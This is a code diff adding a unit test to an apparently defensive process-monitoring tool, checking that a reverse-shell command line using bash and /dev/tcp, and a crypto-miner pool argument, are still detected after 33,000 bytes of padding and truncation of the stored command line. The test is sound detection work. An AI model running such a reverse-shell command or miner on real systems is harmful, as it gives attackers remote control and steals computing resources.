@@ -495,6 +495,53 @@ static void exec_in(struct sw_lineage *l, int pid, const char *exe,
 #define EXEC_IN(l, pid, exe, argv, t) exec_in(l, pid, exe, argv, sizeof(argv), t)
 
 /*
+ * The rules judge the whole command line, not what a line or the table
+ * keeps of it: a /dev/tcp/ redirect, a miner's pool after 33,000 bytes of
+ * padding is found, at the exec, through the table (whose copy is cut).
+ */
+static void test_tail(void **state)
+{
+	static const char shell[] = "bash\0-c\0";
+	static const char tail[] = " ; bash -i >& /dev/tcp/127.0.0.1/9 0>&1";
+	static const char pool[] = "stratum+tcp://pool.example:3333";
+	struct sw_users *u = sw_users_new();
+	struct sw_lineage *l = table(100, u);
+	const size_t pad = 33000;
+	size_t n = sizeof(shell) - 1 + pad + sizeof(tail);
+	char *argv = malloc(n + sizeof(pool) + 8);
+	const struct sw_proc *p;
+
+	assert_non_null(argv);
+	memcpy(argv, shell, sizeof(shell) - 1);
+	memset(argv + sizeof(shell) - 1, ':', pad);
+	memcpy(argv + sizeof(shell) - 1 + pad, tail, sizeof(tail));
+	fork_at(l, 1, 100, 1 * S, false);
+	exec_in(l, 100, "/usr/bin/bash", argv, n, 2 * S);
+	assert_true(tagged("reverse-shell"));
+	/* The exec's own command line is whole after the table. */
+	assert_int_equal(ev.argv_len, n);
+	assert_false(ev.cut & SW_HAVE_ARGV);
+	/* The table keeps SW_ARGV_KEEP bytes, and the whole line's length. */
+	p = sw_lineage_lookup(l, 100);
+	assert_non_null(p);
+	assert_int_equal(p->argv->len, SW_ARGV_KEEP);
+	assert_true(p->cut & SW_HAVE_ARGV);
+	assert_int_equal(p->argv_size, n);
+
+	/* A miner's pool as the last argument, past the padding. */
+	memcpy(argv + sizeof(shell) - 1 + pad, "\0", 1);
+	memcpy(argv, "xmr\0-a\0", 7);
+	memcpy(argv + sizeof(shell) - 1 + pad + 1, pool, sizeof(pool));
+	n = sizeof(shell) - 1 + pad + 1 + sizeof(pool);
+	fork_at(l, 1, 101, 3 * S, false);
+	exec_in(l, 101, "/tmp/x/worker", argv, n, 4 * S);
+	assert_true(tagged("miner"));
+	free(argv);
+	sw_lineage_free(l);
+	sw_users_free(u);
+}
+
+/*
  * fork-bomb: copies forked from copies, deep and many.  A bomb whose
  * members' parents exit (and hand them to init) is still one clan.
  */
@@ -927,6 +974,7 @@ int main(void)
 		cmocka_unit_test_setup(test_miner, setup),
 		cmocka_unit_test_setup(test_exit, setup),
 		cmocka_unit_test_setup(test_net, setup),
+		cmocka_unit_test_setup(test_tail, setup),
 		cmocka_unit_test_setup(test_ptrace, setup),
 		cmocka_unit_test_setup(test_zombies, setup),
 		cmocka_unit_test_setup(test_storm, setup),
